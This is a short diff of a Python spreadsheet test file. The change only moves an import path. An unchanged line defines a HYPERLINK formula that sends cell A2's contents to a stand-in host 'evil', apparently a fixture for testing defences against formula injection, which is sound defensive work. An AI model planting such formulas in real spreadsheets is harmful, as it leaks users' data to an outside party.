@@ -15,7 +15,7 @@ import openpyxl
 import pytest
 from packs import UNIT, counts, entries, repack
 
-from assessment.package_diff import Outcome
+from assessment.exchange.package_diff import Outcome
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil/?x="&A2,"x")'
